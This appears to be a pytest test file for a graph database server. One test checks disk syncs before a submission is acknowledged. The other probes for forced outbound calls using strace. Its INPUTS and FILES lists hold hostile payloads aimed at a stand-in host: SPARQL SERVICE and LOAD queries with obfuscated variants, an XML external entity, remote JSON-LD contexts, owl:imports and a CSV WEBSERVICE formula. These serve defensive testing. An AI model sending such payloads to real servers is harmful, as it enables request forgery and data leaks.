"""What a tracer of system calls sees: all on disk before an acknowledgement, and no call out."""

from __future__ import annotations

import hashlib
import re
import urllib.parse
from pathlib import Path

import pytest

from graph.access import Keys
from graph.store.folder import Folder
from graph.store.log import Log
from handing import OWNER, trial
from running import Running, running
from served import a_copy
from tracing import Call, Order, before, calls

pytestmark = pytest.mark.soak
_OUT = re.compile(r"(connect|sendto|sendmsg)\(.*sa_family=AF_INET")
_HOST = "calls-out.example"


def test_an_acknowledgement_is_sent_when_all_of_it_is_on_disk(
    shipped: Path, tmp_path: Path
) -> None:
    store, trace, content = a_copy(shipped, tmp_path / "store"), tmp_path / "trace", trial(1)
    _, token = Keys(store).make("trial", [OWNER], ["submit"], days=1)
    with running(store, tmp_path / "log", before=before("-o", str(trace)), writing=True) as server:
        assert hand_in(server, token, content) == 201
        made = calls(trace)
        kept = [store / "accepted" / sha256 for sha256 in Log(store).receipts()[-1].kept]
        assert hashlib.sha256(content).hexdigest() in [path.name for path in kept]
        receipt = store / "log" / Log(store).receipts()[-1].name
        copy = Folder(store).current()
        assert not amiss(made, store, kept, receipt, copy)
        # The proof can fail: it misses each of the syncs that it asks for.
        named = Order(made, "HTTP/1.1 201").named(copy)
        assert named is not None
        wanted = {
            *(f"{path}.new" for path in (*kept, receipt, store / "current")),
            *(f"{named.on[0]}/{path.name}" for path in copy.glob("[0-9]*.sst")),
            *(f"{named.on[0]}/{name}" for name in ("CURRENT", "SUMS")),
            named.on[0],
            *(str(store / name) for name in ("accepted", "log", "read", "")),
            str(store / "audit" / "trail.jsonl"),
            str(store / "audit" / "head.new"),
            str(store / "audit"),
        }
        for gone in wanted:
            left = [call for call in made if not (call.syncs and gone.rstrip("/") in call.on)]
            assert len(left) < len(made), gone
            assert amiss(left, store, kept, receipt, copy), gone
    print(f"{sum(call.syncs for call in made)} syncs, {len(wanted)} kinds of them needed")


def amiss(made: list[Call], store: Path, kept: list[Path], receipt: Path, copy: Path) -> list[str]:
    """Tell what was not on disk, or not in turn, when a submission was acknowledged."""
    order, current = Order(made, "HTTP/1.1 201"), store / "current"
    found = [told for path in kept for told in order.put(path)]
    found += [*order.put_folder(copy), *order.put(current), *order.put(receipt)]
    found += [*order.put(store / "audit" / "head"), *order.lines(store / "audit" / "trail.jsonl")]
    if found:
        return found
    steps = [
        max(order.safe_at(path) for path in kept),
        order.safe_at(copy),
        order.safe_at(current),
        order.safe_at(receipt),
        order.said,
    ]
    return [] if steps == sorted(steps) else [f"not in turn: {steps}"]


def hand_in(server: Running, token: str, content: bytes) -> int:
    """Hand a file in, and give the status."""
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "text/turtle"}
    return server.ask("/api/v1/submissions", content, headers).status


INPUTS = {
    "/sparql": [
        f"SELECT * {{ SERVICE <http://{_HOST}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT <http://{_HOST}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ \\u0053ERVICE <http://{_HOST}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?x {{ <http://{_HOST}/>}} SERVICE ?x {{ ?s ?p ?o }} }}",
        f"SELECT * {{ #x\rSERVICE <http://{_HOST}/sparql> {{ ?s ?p ?o }}\n}}",
        f'SELECT * {{ BIND("\\u0022" AS ?x) SERVICE <http://{_HOST}/> {{}} BIND("\\u0022" AS ?y)}}',
        f'SELECT * {{ BIND("\\u0022#" AS ?x) SERVICE <http://{_HOST}/> {{ ?s ?p ?o }} }}',
        f"SELECT * {{ ?s ?p trueSERVICE SILENT <http://{_HOST}/> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ FILTER(1<2#>'''\n) SERVICE <http://{_HOST}/> {{ }} #'''\n }}",
        f"SELECT * FROM <http://{_HOST}/graph> {{ ?s ?p ?o }}",  # noqa: S608
        f"SELECT * FROM NAMED <http://{_HOST}/graph> {{ GRAPH ?g {{ ?s ?p ?o }} }}",  # noqa: S608
        f"LOAD <http://{_HOST}/graph>",
        f"INSERT DATA {{ <http://{_HOST}/> a <http://{_HOST}/> }}",
        f"DESCRIBE <http://{_HOST}/>",
        f"CONSTRUCT {{ ?s ?p <http://{_HOST}/> }} {{ ?s ?p ?o }}",
    ],
}
FILES = {
    "application/ld+json": [
        f'{{"@context": "http://{_HOST}/context", "@id": "http://{_HOST}/a", "name": "a"}}',
        f'{{"@context": {{"@import": "http://{_HOST}/context"}}, "name": "a"}}',
    ],
    "application/rdf+xml": [
        f'<!DOCTYPE a [<!ENTITY b SYSTEM "http://{_HOST}/b">]><a>&b;</a>',
        f'<?xml-stylesheet href="http://{_HOST}/a.xsl"?><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
    ],
    "text/turtle": [
        f"<http://{_HOST}/a> a <http://www.w3.org/2002/07/owl#Ontology> ; "
        f"<http://www.w3.org/2002/07/owl#imports> <http://{_HOST}/b> .",
        f"@base <http://{_HOST}/> . <a> a <b> .",
    ],
    "text/csv": [f'Navn;Adresse\n=WEBSERVICE("http://{_HOST}/");http://{_HOST}/\n'],
}


def test_no_input_makes_the_server_call_out(shipped: Path, tmp_path: Path) -> None:
    store, trace = a_copy(shipped, tmp_path / "store"), tmp_path / "trace"
    _, token = Keys(store).make("trial", [OWNER], ["submit"], days=1)
    tracer = ("strace", "-f", "-o", str(trace), "-e", "trace=connect,sendto,sendmsg,socket")
    sent = 0
    with running(store, tmp_path / "log", before=tracer, writing=True) as server:
        for text in INPUTS["/sparql"]:
            quoted = urllib.parse.quote(text)
            for path, content, media in (
                (f"/sparql?query={quoted}", None, ""),
                ("/sparql", f"query={quoted}".encode(), "application/x-www-form-urlencoded"),
                ("/sparql", text.encode(), "application/sparql-query"),
                ("/sparql", text.encode(), "application/sparql-update"),
                (f"/sparql?default-graph-uri=http://{_HOST}/&query={quoted}", None, ""),
            ):
                told = server.ask(path, content, {"Content-Type": media} if media else {})
                assert told.status < 500, (path, told)
                sent += 1
        for media, texts in FILES.items():
            for text in texts:
                for path in ("/api/v1/validate", "/api/v1/submissions"):
                    headers = {"Content-Type": media, "Authorization": f"Bearer {token}"}
                    assert server.ask(path, text.encode(), headers).status < 500
                    sent += 1
        for path in ("/about?iri=", "/api/v1/things?iri=", "/api/v1/labels?iri="):
            server.ask(path + urllib.parse.quote(f"http://{_HOST}/a"))
            sent += 1
    lines = trace.read_text("utf-8", "replace").splitlines()
    out = [line for line in lines if _OUT.search(line)]
    print(f"{sent} inputs, {len(out)} connections out")
    assert any("AF_INET" in line for line in lines), "the trace saw no socket at all"
    assert not out, "\n".join(out[:5])
